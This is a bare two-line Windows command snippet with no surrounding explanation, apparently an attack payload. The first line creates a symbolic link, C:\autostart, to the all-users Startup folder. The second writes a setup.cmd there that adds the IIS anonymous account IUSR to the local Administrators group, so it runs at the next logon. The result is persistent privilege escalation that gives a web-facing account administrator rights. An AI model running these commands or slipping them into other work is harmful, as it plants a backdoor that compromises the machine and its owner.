mklink /d C:\autostart "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp"
echo net localgroup Administrators IUSR /add > C:\autostart\setup.cmd
